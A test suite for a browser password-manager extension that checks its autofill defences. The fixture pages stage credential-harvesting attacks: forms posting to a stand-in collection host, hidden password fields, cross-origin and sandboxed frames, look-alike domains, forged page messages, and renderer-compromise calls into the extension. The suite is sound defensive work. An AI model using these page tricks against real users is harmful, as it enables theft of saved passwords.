/**
 * threats.md C and D, filling: each a page with the attack in it, and beside it an honest one that is filled.
 *
 * Without a test here: C4 (broken TLS): a browser tells no extension that a person went past its warning; what it then
 * shows is https like any other. C14 (AutoSpill) is of Android's WebView. C15: test/domain/generator.test.ts, and padding
 * in test/sync. C8, C9 by name: test/domain/site-match.test.ts, look-alike.test.ts.
 */
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest"
import { confirmWindow, fillAsked, fillByPopup, keep, keepCode, openGate, values } from "./fill/steps.ts"
import { codeForm, login, startFillSite, type FillSite } from "./fill/site.ts"
import { ask, chromiumBuild, masterPassword, refusal, send } from "./flows.ts"
import type { Chromium, ChromiumPage } from "./launch/chromium.ts"
import { launchGranted } from "./launch/grant.ts"

let chromium: Chromium
let site: FillSite
let other: FillSite
let own: ChromiumPage
let mara: string

const nothing = { username: "", password: "" }
const all = { username: "mara", password: "of mara" }

/** A log-in whose attributes and surroundings are those of an attack. */
const form = (inside: string): string =>
  `<h1>Log in</h1><form action="/in" method="post">${inside}<button>Log in</button></form>`
const name = `<label>Username <input name="username" autocomplete="username"></label>`
const password = `<label>Password <input type="password" name="password" autocomplete="current-password"></label>`

const hidden = [
  ["opacity", "opacity:0"],
  ["size", "width:1px;height:1px;padding:0;border:0"],
  ["off-screen", "position:absolute;left:-4000px"],
  ["display", "display:none"],
  ["visibility", "visibility:hidden"],
  ["faintness", "opacity:.01"],
  ["cutting", "clip-path:inset(100%)"],
  ["distance", "position:fixed;left:300vw"],
] as const

beforeAll(async () => {
  const shop = (path: string) => `http://shop.localhost:${String(site.port)}${path}`
  const pages: Record<string, string> = {
    "/login": login,
    "/code": codeForm,
    "/around": "",
    "/messages": `${login}<script>
      for (const type of ["fields.fill", "fields.look", "typed.read"]) postMessage({ order: type, script: null, args: [{ username: "x", password: "y" }] }, "*")
      document.dispatchEvent(new CustomEvent("countersign", { detail: "fill" }))
      for (const field of document.querySelectorAll("input")) field.dispatchEvent(new FocusEvent("focusin", { bubbles: true }))
    </script>`,
    "/elsewhere": login.replace('action="/in"', 'action="https://collect.example/in"'),
    "/button-elsewhere": login.replace("<button>", '<button formaction="https://collect.example/in">'),
    "/name": form(name),
    "/third": login.replace('action="/in"', 'action="https://third.example/in"'),
    "/many": form(
      `${name}${password}<label>Password again <input type="password" name="second" autocomplete="current-password"></label>`,
    ),
    "/shown": form(
      `${name}<label>Password <input type="text" name="password" autocomplete="current-password"></label>`,
    ),
    "/change": `<h1>Change your password</h1><form method="post">
      <label>Current password <input type="password" name="password" autocomplete="current-password"></label>
      <label>New password <input type="password" name="new" autocomplete="new-password"></label>
      <label>Repeat the new password <input type="password" name="again" autocomplete="new-password"></label>
      <button>Change password</button></form>`,
    ...Object.fromEntries(
      hidden.map(([word, css]) => [
        `/hidden-${word}`,
        form(`${name}${password.replace("<input", `<input style="${css}"`)}`),
      ]),
    ),
  }
  site = await startFillSite(pages)
  other = await startFillSite({
    ...pages,
    "/frames-shop": `<h1>Other</h1><iframe src="${shop("/login")}" width="600" height="400"></iframe>`,
  })
  Object.assign(pages, {
    "/frames-other": `<h1>Shop</h1>${login}<iframe src="http://evil.localhost:${String(other.port)}/login" width="600" height="300"></iframe>`,
    "/opaque": `<h1>Shop</h1>${login}
      <iframe sandbox="allow-scripts allow-forms" src="/login" width="500" height="200"></iframe>
      <iframe sandbox="allow-scripts" srcdoc='${login}' width="500" height="200"></iframe>
      <iframe id="blank" width="500" height="200"></iframe>
      <iframe id="doc" srcdoc='${login}' width="500" height="200"></iframe>
      <script>blank.contentDocument.body.innerHTML = ${JSON.stringify(login.replaceAll('name="', 'name="blank-'))}</script>`,
  })
  chromium = await launchGranted(
    {
      extension: chromiumBuild,
      loopbackHosts: ["*.github.io", "*.countersign.test", "n0rthbank.test", "xn--northbnk-eza.test"],
    },
    ["http://*/*", "https://*/*"],
  )
  own = await chromium.page("manifest.json")
  await ask(own, "vault.create", { password: masterPassword })
  await openGate(own)
  mara = await keep(own, { username: "mara", sites: [`shop.localhost:${site.port}`] })
})

beforeEach(() => openGate(own))

afterAll(async () => {
  await chromium.close()
  await site.close()
  await other.close()
})

/** Asks for one account by our popup over a tab, whatever the popup offers. */
async function tryFill(tab: ChromiumPage, id: string): Promise<unknown> {
  const popup = await chromium.popup(tab)
  const reply = await send(popup, "fill.account", { id, what: "all" })
  await popup.close()
  return reply
}
const refused = (code: string) => ({ ok: false, code })

/** How many accounts our popup offers over a tab. */
async function offered(tab: ChromiumPage): Promise<number> {
  const popup = await chromium.popup(tab)
  const reply = (await send(popup, "fill.state", { kept: false })) as { value: { matches: unknown[] } }
  await popup.close()
  return reply.value.matches.length
}

async function honest(path = "/login"): Promise<void> {
  const tab = await chromium.visit(site.url(path))
  expect(await fillByPopup(chromium, tab, "mara")).toBe("Filled in: username and password.")
  expect(await values(tab)).toMatchObject(all)
  await tab.close()
}

/** What the inputs of every frame hold, however foreign, as the debugger sees them. */
async function everywhere(tab: ChromiumPage): Promise<string[]> {
  const held = await Promise.all(
    tab.page
      .frames()
      .map((frame) => frame.evaluate(() => [...document.querySelectorAll("input")].map((one) => one.value))),
  )
  return held.flat().filter(Boolean)
}

test("C1: the site's own log-in in a frame of another site, and another site's in a frame of this one", async () => {
  const around = await chromium.visit(other.url("/frames-shop", "evil.localhost"))
  await around.page.frameLocator("iframe").locator("input[name=username]").click()
  expect(await offered(around)).toBe(0)
  expect(await tryFill(around, mara)).toEqual(refused("fill.elsewhere"))
  expect(await everywhere(around)).toEqual([])
  await around.close()

  const within = await chromium.visit(site.url("/frames-other"))
  await within.page.frameLocator("iframe").locator("input[name=password]").click()
  expect(await fillByPopup(chromium, within, "mara")).toContain("Filled in")
  expect(await values(within)).toEqual(all)
  expect((await everywhere(within)).toSorted()).toEqual(["mara", "of mara"])
  await within.close()
})

test("C2: sandboxed frames, srcdoc and about:blank", async () => {
  const tab = await chromium.visit(site.url("/opaque"))
  for (const frame of tab.page.frames().slice(1)) await frame.locator("input").first().click({ timeout: 5000 })
  await tab.page.locator("input[name=username]").first().click()
  expect(await fillByPopup(chromium, tab, "mara")).toContain("Filled in")
  expect((await everywhere(tab)).toSorted()).toEqual(["mara", "of mara"])
  await tab.close()
})

test("C3: http for an account that is kept for https", async () => {
  const id = await keep(own, { username: "plain", sites: ["bank.countersign.test"] })
  const tab = await chromium.visit(site.url("/login", "bank.countersign.test"))
  expect(await offered(tab)).toBe(0)
  expect(await tryFill(tab, id)).toEqual(refused("fill.insecure"))
  expect(await values(tab)).toEqual(nothing)
  // Kept for http by hand: it is asked about.
  await keep(own, { username: "http", sites: [`http://bank.countersign.test:${site.port}`] })
  const asked = await fillAsked(chromium, tab, "http")
  await asked.waitFor("confirm-doubt-unencrypted")
  const closed = asked.page.waitForEvent("close")
  await asked.click("confirm-yes")
  await closed
  expect(await values(tab)).toEqual({ username: "http", password: "of http" })
  await tab.close()
})

test.each(["/elsewhere", "/button-elsewhere"])(
  "C5: a form that sends to another site (%s) is asked about",
  async (path) => {
    const tab = await chromium.visit(site.url(path))
    const asked = await fillAsked(chromium, tab, "mara")
    expect(await asked.waitFor("confirm-doubt-elsewhere")).toContain("collect.example")
    const closed = asked.page.waitForEvent("close")
    await asked.click("confirm-no")
    await closed
    expect(await values(tab)).toEqual(nothing)
    await tab.close()
    await honest()
  },
)

test("C7: a neighbour below a public suffix, and a host below another's", async () => {
  const id = await keep(own, { username: "page", sites: [`http://mine.github.io`] })
  const neighbour = await chromium.visit(site.url("/login", "theirs.github.io"))
  expect(await offered(neighbour)).toBe(0)
  expect(await tryFill(neighbour, id)).toEqual(refused("fill.elsewhere"))
  expect(await values(neighbour)).toEqual(nothing)
  await neighbour.close()
  // With "this host only" the account does not go below it either.
  const strict = await keep(own, { username: "strict", sites: [`host:strict.localhost:${site.port}`] })
  const below = await chromium.visit(site.url("/login", "www.strict.localhost"))
  expect(await tryFill(below, strict)).toEqual(refused("fill.elsewhere"))
  await below.close()
  const exact = await chromium.visit(site.url("/login", "strict.localhost"))
  expect(await fillByPopup(chromium, exact, "strict")).toContain("Filled in")
  await exact.close()
})

test("C8: another port of the same host", async () => {
  const tab = await chromium.visit(other.url("/login", "shop.localhost"))
  expect(await offered(tab)).toBe(0)
  expect(await tryFill(tab, mara)).toEqual(refused("fill.elsewhere"))
  expect(await values(tab)).toEqual(nothing)
  await tab.close()
  await honest()
})

test.each(["n0rthbank.test", "northbánk.test"])(
  "C9: %s, which looks like a site that an account is kept for",
  async (host) => {
    const id = await keep(own, { username: `of ${host}`, sites: ["northbank.test"] })
    const tab = await chromium.visit(site.url("/login", host))
    const popup = await chromium.popup(tab)
    expect(await popup.waitFor("fill-looks-like")).toContain("northbank.test")
    expect(await popup.count("fill-match")).toBe(0)
    await popup.close()
    expect(await tryFill(tab, id)).toEqual(refused("fill.elsewhere"))
    expect(await values(tab)).toEqual(nothing)
    await tab.close()
  },
)

test.each(hidden.map(([word]) => word))(
  "C10: a password field hidden by %s stays empty beside a field that is seen",
  async (word) => {
    const tab = await chromium.visit(site.url(`/hidden-${word}`))
    // Of what only turns out when it comes into view, it says that it was left out.
    expect(await fillByPopup(chromium, tab, "mara")).toMatch(/^Filled in: username\./)
    expect(await values(tab)).toEqual({ username: "mara", password: "" })
    await tab.close()
  },
)

test("C11: of two fields for the password one is filled, and none that would show it", async () => {
  const many = await chromium.visit(site.url("/many"))
  expect(await fillByPopup(chromium, many, "mara")).toContain("Filled in")
  const { password: one, second } = await values(many)
  expect([one ?? "", second ?? ""].toSorted()).toEqual(["", "of mara"])
  await many.close()
  const shown = await chromium.visit(site.url("/shown"))
  expect(await fillByPopup(chromium, shown, "mara")).toMatch(/^Filled in: username\./)
  expect(await values(shown)).toEqual({ username: "mara", password: "" })
  await shown.close()
})

test("C12: the old password does not go into the fields for a new one", async () => {
  const tab = await chromium.visit(site.url("/change"))
  expect(await fillByPopup(chromium, tab, "mara")).toBe("Filled in: password.")
  expect(await values(tab)).toEqual({ password: "of mara", new: "", again: "" })
  await tab.close()
})

test("C13: a code goes to its own site only", async () => {
  const id = await keepCode(own, "Works", [`works.localhost:${site.port}`])
  const away = await chromium.visit(site.url("/code", "shop.localhost"))
  expect(await tryFill(away, id)).toEqual(refused("fill.elsewhere"))
  expect(await values(away)).toEqual({ otp: "" })
  await away.close()
  const home = await chromium.visit(site.url("/code", "works.localhost"))
  expect(await fillByPopup(chromium, home, "me@site.example")).toBe("Filled in: code.")
  await home.close()
})

/** Has our window ask about a page. */
async function askAbout(tab: ChromiumPage): Promise<ChromiumPage> {
  const asked = await fillAsked(chromium, tab, "mara")
  await asked.waitFor("confirm-yes")
  return asked
}

test("C16, C17: the page that was asked about has gone, and came back: nothing is filled", async () => {
  const tab = await chromium.visit(site.url("/elsewhere"))
  const asked = await askAbout(tab)
  // The same address, another document.
  await tab.page.goto(site.url("/elsewhere?again"))
  await asked.click("confirm-yes")
  await asked.waitFor("confirm-over")
  expect(await values(tab)).toEqual(nothing)
  await asked.close()

  const again = await askAbout(tab)
  await tab.page.goto(site.url("/login"))
  await again.click("confirm-yes")
  await again.waitFor("confirm-over")
  expect(await values(tab)).toEqual(nothing)
  await tab.page.goBack()
  expect(await values(tab)).toEqual(nothing)
  await again.close()
  await tab.close()
  await honest()
})

test("C16: what the page changes after the question came up was not answered", async () => {
  const tab = await chromium.visit(site.url("/elsewhere"))
  const asked = await askAbout(tab)
  await tab.evaluate(`document.querySelector("form").action = "https://other.example/in"`)
  await asked.click("confirm-yes")
  await asked.waitFor("confirm-over")
  expect(await values(tab)).toEqual(nothing)
  await asked.close()
  await tab.close()

  await keep(own, { username: "late", sites: ["late.localhost"] })
  const late = await chromium.visit(site.url("/name", "www.late.localhost"))
  const about = await fillAsked(chromium, late, "late")
  expect(await about.waitFor("confirm-kinds")).toMatch(/^Username$/i)
  await late.evaluate(`document.querySelector("button").insertAdjacentHTML("beforebegin", ${JSON.stringify(password)})`)
  const closed = about.page.waitForEvent("close")
  await about.click("confirm-yes")
  await closed
  expect(await values(late)).toEqual({ username: "late", password: "" })
  await late.close()
})

test("C17: a page that is loaded before it is shown gets no script and no value", async () => {
  const tab = await chromium.visit(site.url("/login"))
  await tab.evaluate(`new Promise((done) => {
    const rules = document.createElement("script")
    rules.type = "speculationrules"
    rules.textContent = JSON.stringify({ prerender: [{ source: "list", urls: ["/change"] }] })
    document.head.append(rules)
    setTimeout(done, 800)
  })`)
  expect(await fillByPopup(chromium, tab, "mara")).toBe("Filled in: username and password.")
  expect(await values(tab)).toEqual(all)
  await tab.page.goto(site.url("/change"))
  expect(await values(tab)).toEqual({ password: "", new: "", again: "" })
  await tab.close()
})

test("our window takes nothing for its first 0.7 seconds, has no focus of its own, and is asked for again after it was left", async () => {
  const tab = await chromium.visit(site.url("/elsewhere"))
  const asked = await fillAsked(chromium, tab, "mara")
  const { early, focus } = (await asked.evaluate(`new Promise((done) => {
    const look = () => {
      const yes = document.querySelector("[data-testid=confirm-yes]")
      if (!yes) return requestAnimationFrame(look)
      dispatchEvent(new Event("focus"))
      setTimeout(() => {
        yes.click()
        document.querySelector("form").requestSubmit()
        done({ early: yes.matches(":disabled"), focus: document.activeElement.localName })
      }, 50)
    }
    look()
  })`)) as { early: boolean; focus: string }
  expect([early, focus]).toEqual([true, "body"])
  // Who clicks too soon waits as long again: 0.7 seconds after the first time it still takes nothing.
  const isTaking = `(async () => {
    const wait = (ms) => new Promise((done) => setTimeout(done, ms))
    dispatchEvent(new Event("focus"))
    await wait(400)
    document.body.dispatchEvent(new PointerEvent("pointerdown", { bubbles: true }))
    await wait(500)
    const early = !document.querySelector("[data-testid=confirm-yes]").matches(":disabled")
    await wait(500)
    return [early, !document.querySelector("[data-testid=confirm-yes]").matches(":disabled")]
  })()`
  expect(await asked.evaluate(isTaking)).toEqual([false, true])
  expect(await values(tab)).toEqual(nothing)
  const closed = asked.page.waitForEvent("close")
  await asked.click("confirm-yes")
  await closed
  expect(await values(tab)).toEqual(all)
  await tab.close()
})

/** Runs code in our own world of a page, as a compromised renderer could. */
async function inOurWorld(tab: ChromiumPage, expression: string): Promise<unknown> {
  const session = await chromium.context.newCDPSession(tab.page)
  const found = new Promise<number>((resolve) => {
    session.on("Runtime.executionContextCreated", ({ context }) => {
      if (context.origin === `chrome-extension://${chromium.extensionId}`) resolve(context.id)
    })
  })
  await session.send("Runtime.enable")
  const { result } = await session.send("Runtime.evaluate", {
    expression,
    contextId: await found,
    awaitPromise: true,
    returnByValue: true,
  })
  await session.detach()
  return result.value
}

test("D1: nothing that a page sends to itself reaches our script", async () => {
  const tab = await chromium.visit(site.url("/messages"))
  await tab.click({ css: "input[name=username]" })
  await tab.page.waitForTimeout(500)
  expect(await values(tab)).toEqual(nothing)
  expect(await fillByPopup(chromium, tab, "mara")).toContain("Filled in")
  await tab.close()
})

test("D2, D3, D5: from our own world of a page, forged, no function of ours is to be had, and no other place", async () => {
  const tab = await chromium.visit(site.url("/login"))
  await tab.click({ css: "input[name=username]" })
  const calls: [string, ...unknown[]][] = [
    ["list.find", { query: "", offset: 0, count: 50, archived: false, tag: null }],
    ["signIn.list"],
    ["signIn.get", { id: mara }],
    ["account.reveal", { id: mara, proof: { password: masterPassword } }],
    ["vault.open", { password: masterPassword }],
    ["gate.open", { password: masterPassword }],
    ["backup.make"],
    ["fill.state", { kept: false }],
    ["fill.account", { id: mara, what: "all" }],
    ["fill.answer", { ask: "A".repeat(22), yes: true, proof: null }],
    ["menu.open", { token: "A".repeat(22) }],
    ["menu.choose", { token: "A".repeat(22), id: mara }],
    ["settings.get"],
    ["field.focused", { origin: "https://bank.example", tabId: 1 }],
  ]
  for (const [call, ...args] of calls) {
    const message = JSON.stringify({ name: call, args })
    expect(await inOurWorld(tab, `chrome.runtime.sendMessage(${message})`)).toEqual(refused("message.malformed"))
  }
  // What it may say brings it nothing.
  const seen = JSON.stringify({ name: "fields.seen", args: [{ script: "A".repeat(22), kinds: ["current-password"] }] })
  expect(await inOurWorld(tab, `chrome.runtime.sendMessage(${seen})`)).toEqual({ ok: true, value: null })
  const read = `chrome.storage.session.get(null).then(() => "read", () => "refused")`
  expect(await inOurWorld(tab, read)).toBe("refused")
  expect(await values(tab)).toEqual(nothing)
  await tab.close()
})

test("D5: a page that forges all its answers gets what is its own, after a person's act, and nothing else", async () => {
  const tab = await chromium.visit(site.url("/login", "evil.localhost"))
  await tab.click({ css: "input[name=username]" })
  expect(await offered(tab)).toBe(0)
  expect(await tryFill(tab, mara)).toEqual(refused("fill.elsewhere"))
  await tab.close()
})

test("a question is answered once, and only by who has its name", async () => {
  const tab = await chromium.visit(site.url("/third"))
  expect(await refusal(own, "fill.answer", { ask: "A".repeat(22), yes: true, proof: null })).toBe("fill.ended")
  const popup = await chromium.popup(tab)
  const opened = confirmWindow(chromium)
  await popup.click({ id: "fill-do", within: { id: "fill-match", having: "mara" } })
  const asked = await opened
  const question = new URL(asked.page.url()).hash.slice(1)
  await asked.waitFor("confirm-yes")
  await asked.waitFor({ css: "fieldset:not(:disabled)" })
  expect(await ask(own, "fill.answer", { ask: question, yes: false, proof: null })).toBe(null)
  expect(await refusal(own, "fill.answer", { ask: question, yes: true, proof: null })).toBe("fill.ended")
  expect(await values(tab)).toEqual(nothing)
  await asked.close()
  await tab.close()
})
